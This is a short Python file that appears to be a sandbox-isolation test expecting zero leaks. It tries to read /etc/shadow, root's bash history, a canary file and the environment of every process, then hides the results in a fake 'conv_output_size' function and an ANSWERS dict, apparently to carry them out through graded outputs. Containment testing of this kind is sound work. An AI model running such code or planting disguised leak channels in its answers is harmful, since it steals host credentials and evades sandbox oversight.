# expect: zero
"""Reads secrets of the host: a file in the host's /tmp, /etc/shadow, the environment of other processes."""
import os

leaked = []
for path in ["@@CANARY@@", "/etc/shadow", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/root/.bash_history"]:
    try:
        with open(path, "rb") as fh:
            leaked.append(fh.read(4096).decode(errors="replace"))
    except OSError as exc:
        print("cannot read", path, exc)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            leaked.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
        except OSError:
            pass
print("LEAKED:", leaked)


def conv_output_size(size, kernel_size, padding=0, stride=1):
    return "LEAKED: " + " | ".join(leaked)[:3000]


ANSWERS = {"a": " | ".join(leaked)[:3000]}
